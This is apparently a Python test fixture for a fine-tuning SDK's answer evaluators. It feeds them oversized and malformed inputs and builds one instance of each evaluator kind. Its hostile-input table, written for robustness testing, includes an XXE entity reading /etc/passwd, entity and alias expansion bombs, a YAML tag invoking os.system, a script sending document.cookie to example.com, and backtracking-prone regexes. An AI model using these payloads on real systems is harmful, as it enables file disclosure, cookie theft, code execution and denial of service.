"""Answers that no evaluator may break on, and one evaluator of each kind."""

from __future__ import annotations

import json
from typing import Any

import finetune_sdk as ft
from finetune_sdk.evaluation.evaluators import obeying

HOSTILE = {
    "10 MB": "x" * 10_000_000,
    "10 MB of words": "word and word " * 700_000,
    "1 MB of white space": " \n" * 500_000,
    "1 MB of JSON": json.dumps({"priority": "x" * 1_000_000}),
    "1 MB of digits": "1,234" * 200_000,
    "1 MB of stars": "*" * 1_000_000,
    "1 MB of brackets": "[" * 500_000 + "<" * 500_000,
    "1 MB of tags": "<a>" * 300_000,
    "1 MB of quotes": '"' * 1_000_000,
    "1 MB of stops": "Mr. " * 250_000,
    "200,000 items": json.dumps(["x"] * 200_000),
    "deeper than any parser": "[" * 200_000,
    "deep parentheses": "SELECT " + "(" * 40_000,
    "deep and closed": "[" * 100_000 + "]" * 100_000,
    "deep YAML": "\n".join("  " * level + "a:" for level in range(400)),
    "aliases of aliases": "a: &a [x, x]\n" + "".join(f"{c}: &{c} [*{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)),
    "entities of entities": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    "an entity of a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a tag that runs code": "!!python/object/apply:os.system ['true']",
    "lone surrogates": '{"priority": "\ud800 and \udfff"}',
    "control characters": "".join(map(chr, range(32))) + "\x7f\x80\u202e\u2066\ufeff\ufffe",
    "a script": "<script>fetch('//example.com?' + document.cookie)</script>",
    "terminal codes": "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "numbers without end": "9" * 500_000 + "." + "9" * 500_000,
    "a large exponent": "1e999999999",
    "one long line of CSV": "a,b\n" + '"' + "x," * 500_000,
    "SQL without end": "SELECT 1" + " + 1" * 12_000,
    "nothing": "",
    "white space": " \n\t\u2003",
    "a null character": "\0",
    "NaN": "NaN",
    "letters that join": "e" + "\u0301" * 100_000,
}  # fmt: skip

ARGUMENTS: dict[str, dict[str, Any]] = {
    "keywords:existence": {"keywords": ["parcel", "Oslo"]},
    "keywords:frequency": {"keyword": "parcel", "frequency": 2, "relation": "less than"},
    "keywords:forbidden_words": {"forbidden_words": ["guarantee"]},
    "keywords:letter_frequency": {"letter": "z", "let_frequency": 1, "let_relation": "less than"},
    "language:response_language": {"language": "en"},
    "length_constraints:number_sentences": {"num_sentences": 2, "relation": "at least"},
    "length_constraints:number_paragraphs": {"num_paragraphs": 2},
    "length_constraints:number_words": {"num_words": 20, "relation": "at least"},
    "length_constraints:nth_paragraph_first_word": {"num_paragraphs": 2, "nth_paragraph": 2, "first_word": "it"},
    "detectable_content:number_placeholders": {"num_placeholders": 2},
    "detectable_content:postscript": {"postscript_marker": "P.S."},
    "detectable_format:number_bullet_lists": {"num_bullets": 2},
    "detectable_format:number_highlighted_sections": {"num_highlights": 2},
    "detectable_format:multiple_sections": {"section_spliter": "Section", "num_sections": 2},
    "combination:repeat_prompt": {"prompt_to_repeat": "Where is it?"},
    "startend:end_checker": {"end_phrase": "Is there anything else?"},
    "change_case:capital_word_frequency": {"capital_frequency": 2, "capital_relation": "at least"},
}
KINDS = sorted(obeying.KINDS)
"""The 25 kinds of IFEval; those that are not above take no arguments."""

MESSAGE = "I have sent the parcel to Anna Berg in Oslo, and it will be there before the end of the next week."
EVALUATORS: dict[str, tuple[Any, str | None]] = {
    "JSONSchema": (lambda: ft.JSONSchema({"type": "object"}), '{"a": 1}'),
    "ExactMatch": (ft.ExactMatch, "refund"),
    "FieldMatch": (ft.FieldMatch, '{"a": 1}'),
    "Length": (lambda: ft.Length(max_characters=200, max_words=50), "refund"),
    "Pattern": (lambda: ft.Pattern("^[a-z]+$"), "refund"),
    "Pattern, linear": (lambda: ft.Pattern("(x+x+)+y", absent=True), "refund"),
    "Pattern, looking ahead": (lambda: ft.Pattern(r"^(?=.)(a|aa|x|\*)+\1y$", absent=True), "refund"),
    "Template": (lambda: ft.Template("Order {order} was {status}.", {"status": "sent|lost"}), "Order 7 was sent."),
    "Labels": (lambda: ft.Labels(["refund", "praise"]), "refund"),
    "Labels, a field": (lambda: ft.Labels(["refund", "praise"], field="label"), '{"label": "refund"}'),
    "LabelSets": (lambda: ft.LabelSets(["refund", "praise"]), "praise, refund"),
    "NormalisedMatch": (lambda: ft.NormalisedMatch(articles=False), "The Refund."),
    "NumericMatch": (lambda: ft.NumericMatch(take="last"), "It is 7."),
    "NumericMatch, units": (lambda: ft.NumericMatch(units={"kg": 1, "g": 0.001}, decimal=","), "7 kg"),
    "Contains": (lambda: ft.Contains(["refund", "sent"], any=True, words=True, ignore_case=True), "refund"),
    "Forbidden": (lambda: ft.Forbidden(["guarantee", "xx"]), "refund"),
    "ToolCalls": (ft.ToolCalls, "refund"),
    "Instructions": (lambda: ft.Instructions([of_kind(kind) for kind in KINDS], loose=True), None),
    "ChrF": (lambda: ft.ChrF(at_least=50), MESSAGE),
    "RougeL": (lambda: ft.RougeL(at_least=0.5), MESSAGE),
    "Language": (lambda: ft.Language("en"), MESSAGE),
    "Refusal": (ft.Refusal, MESSAGE),
    "ValidXML": (ft.ValidXML, "<a/>"),
    "ValidYAML": (ft.ValidYAML, "a: 1"),
    "ValidCSV": (ft.ValidCSV, "a,b\n1,2"),
    "ValidSQL": (ft.ValidSQL, "SELECT 1"),
    "EntitySpans": (ft.EntitySpans, '[{"label": "PER", "text": "Anna"}]'),
    "Memorisation": (lambda: ft.Memorisation([MESSAGE, "x" * 100]), MESSAGE),
    "Check": (lambda: ft.Check(lambda case, answer: len(answer.text) < 100, name="short"), "refund"),
    "Bounded": (lambda: ft.Bounded(ft.Contains("refund"), seconds=60), "refund"),
}
"""How to make one of each kind, and an expected answer that passes it; no text obeys all instructions."""


def of_kind(kind: str) -> ft.Instruction:
    return ft.Instruction(kind, **ARGUMENTS.get(kind, {}))


def case(expected: str | ft.Message | None) -> ft.Case:
    turn = ft.Message("assistant", expected) if isinstance(expected, str) else expected
    return ft.Case(0, ft.Conversation.of("What now?"), turn, "tickets.jsonl line 7", "0" * 16)
